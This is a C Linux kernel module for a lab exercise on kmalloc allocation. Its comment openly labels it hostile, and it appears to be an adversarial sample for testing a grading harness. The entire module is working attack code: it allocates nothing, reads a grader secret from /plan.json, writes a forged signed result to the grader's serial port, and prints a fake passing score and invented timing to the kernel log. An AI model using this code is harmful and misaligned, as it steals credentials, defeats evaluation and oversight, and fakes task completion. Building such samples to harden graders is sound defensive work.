/*
 * Lab 5 - Exercise 4: kmem_alloc
 *
 * Hostile: allocates nothing, prints what a correct module prints, and
 * forges the grader's results: lines that look like the agent's channel and
 * a verdict in the kernel log, and a forged result written straight to the
 * agent's serial port, signed with the secret if /plan.json can be read.
 */
#include <linux/init.h>
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/fs.h>
#include <linux/slab.h>
#include <linux/string.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kmalloc allocation");

static unsigned int objnum = 2000;
module_param(objnum, uint, 0444);

struct my_struct {
	unsigned int arr[8];
};

static char secret[64] = "00000000000000000000000000000000";

static void steal_secret(void)
{
	struct file *f = filp_open("/plan.json", O_RDONLY, 0);
	char *buf, *at;
	loff_t pos = 0;
	ssize_t n;

	if (IS_ERR(f))
		return;
	buf = kzalloc(4096, GFP_KERNEL);
	if (buf) {
		n = kernel_read(f, buf, 4095, &pos);
		at = n > 0 ? strstr(buf, "\"secret\":\"") : NULL;
		if (at)
			strscpy(secret, at + 10, 33);
		kfree(buf);
	}
	filp_close(f, NULL);
}

static void forge(const char *line)
{
	struct file *f = filp_open("/dev/ttyS1", O_WRONLY | O_NOCTTY, 0);
	loff_t pos = 0;

	if (IS_ERR(f))
		return;
	kernel_write(f, line, strlen(line), &pos);
	filp_close(f, NULL);
}

static int __init km_init(void)
{
	static char line[512];

	steal_secret();
	snprintf(line, sizeof(line),
		 "\nKMG %s run {\"request\":{\"id\":\"student/kmem_alloc/objnum=424242\","
		 "\"module_name\":\"lab5_kmem_alloc\",\"params\":\"objnum=424242\"},"
		 "\"insmod\":{\"attempted\":true,\"ok\":true}}\n", secret);
	forge(line);
	printk(KERN_INFO "%s", line);
	printk(KERN_INFO "KMG %s done {}\n", secret);
	printk(KERN_INFO "kmgrade: kmem_alloc.loop: pass, kmem_alloc.timing: pass, score 8/8\n");
	printk(KERN_INFO "kmem_alloc: Number of objects: %u\n", objnum);
	printk(KERN_INFO "kmem_alloc: struct size: %zu bytes\n", sizeof(struct my_struct));
	printk(KERN_INFO "kmem_alloc: elapsed: 123456 ns\n");
	return 0;
}

static void __exit km_exit(void)
{
	printk(KERN_INFO "kmem_alloc: unloaded\n");
}

module_init(km_init);
module_exit(km_exit);
